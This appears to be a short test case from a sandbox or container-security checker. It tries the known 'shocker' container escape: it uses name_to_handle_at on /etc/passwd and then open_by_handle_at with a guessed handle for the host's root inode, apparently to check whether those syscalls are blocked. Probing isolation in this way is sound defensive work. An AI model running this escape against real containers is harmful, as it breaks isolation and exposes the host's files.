"""The "shocker" escape: name_to_handle_at on a file, then
open_by_handle_at with a guessed handle for the host's root inode."""
# mode: batch
buf = ctypes.create_string_buffer(128 + 8)
ctypes.memmove(buf, (128).to_bytes(4, "little"), 4)
mnt = ctypes.c_int(0)
root = ctypes.create_string_buffer((8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little"))
fd = os.open(os.environ.get("HOME", "."), os.O_RDONLY)
try_syscalls([("name_to_handle_at", NR["name_to_handle_at"], -100, "/etc/passwd", buf, ctypes.byref(mnt), 0),
              ("open_by_handle_at", NR["open_by_handle_at"], fd, root, 0)])
